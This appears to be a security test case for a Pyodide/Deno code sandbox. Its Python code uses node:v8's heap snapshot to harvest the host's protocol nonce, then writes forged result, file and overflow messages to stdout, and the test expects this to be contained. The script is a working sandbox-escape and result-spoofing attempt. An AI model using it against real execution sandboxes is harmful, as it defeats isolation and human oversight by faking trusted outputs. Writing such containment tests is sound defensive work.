# ATTACK: learn the protocol nonce without patching anything: node:v8's getHeapSnapshot() needs no Deno permission and serialises every string in the JS heap, the host's nonce among them; then forge, for every 32-hex string found, a result (value "forged", elapsed_ms 1e400), an output file and an overflow message. CONTAINED (expected): the nonce cannot be read from inside (no heap snapshot, or no nonce in the sandbox's heap): only the genuine result is accepted.
# expect: ok; value="genuine"; names=genuine.txt; limits=memory_mb:1024,timeout:40
import base64
import json

import js

candidates = await js.eval(r"""(async () => {
  const v8 = await import("node:v8");
  const found = new Set();
  let tail = "";
  for await (const chunk of v8.getHeapSnapshot()) {
    const text = tail + String(chunk);
    for (const m of text.matchAll(/"([0-9a-f]{32})"/g)) found.add(m[1]);
    tail = text.slice(-40);
  }
  return [...found].join(",");
})()""")
candidates = [c for c in str(candidates).split(",") if c]
enc = js.TextEncoder.new()
data = base64.b64encode(b"forged file").decode()
for nonce in candidates:
    lines = [
        {"type": "file", "id": 1, "name": "forged.txt", "last": True, "data": data, "nonce": nonce},
        {"type": "result", "id": 1, "ok": True, "error": None, "value": json.dumps("forged"),
         "stdout": "", "stderr": "", "output_overflow": False, "files": 1,
         "file_problems": [], "nonce": nonce, "elapsed_ms": 1.0},
    ]
    for msg in lines:
        text = nonce + " " + json.dumps(msg, separators=(",", ":")).replace("1.0}", "1e400}") + "\n"
        js.Deno.stdout.writeSync(enc.encode(text))
with open("genuine.txt", "w") as f:
    f.write(f"{len(candidates)} candidates")
result = "genuine"
